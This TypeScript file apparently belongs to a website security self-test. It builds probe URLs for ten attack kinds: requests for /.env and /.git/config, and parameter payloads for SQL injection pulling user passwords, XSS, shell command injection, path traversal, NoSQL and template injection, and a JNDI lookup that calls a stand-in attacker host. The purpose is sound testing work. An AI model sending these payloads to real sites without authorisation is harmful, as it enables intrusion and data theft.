// biome-ignore-all lint/suspicious/noTemplateCurlyInString: an attack is written so.
import type { SiteAttack } from '@sundew/wire/self-test';

/** Where an attack goes: to a file that should not be there, or to the page itself with something in a parameter. */
type Target = { readonly path: string } | { readonly parameter: string; readonly value: string };

/** One plain example of each; none changes anything on a site that it works on. */
const TARGETS: Readonly<Record<SiteAttack, Target>> = {
  secret_file: { path: '/.env' },
  repository: { path: '/.git/config' },
  login_page: { path: '/wp-login.php' },
  sql_injection: { parameter: 'category', value: "7' UNION SELECT name, password FROM users -- " },
  xss: { parameter: 'greeting', value: '<script>alert(document.domain)</script>' },
  command_injection: { parameter: 'host', value: 'localhost; cat /etc/hostname' },
  path_traversal: { parameter: 'page', value: '../../../../etc/hostname' },
  nosql_injection: { parameter: 'name[$ne]', value: 'nobody' },
  template_injection: { parameter: 'subject', value: '{{7*7}}' },
  jndi_lookup: { parameter: 'ref', value: '${jndi:ldap://attacker.invalid/a}' },
};

/** @param page of the site, whose other parameters stay */
export function addressOf(attack: SiteAttack, page: URL): URL {
  const target = TARGETS[attack];
  if ('path' in target) return new URL(target.path, page);
  const address = new URL(page);
  address.searchParams.set(target.parameter, target.value);
  return address;
}
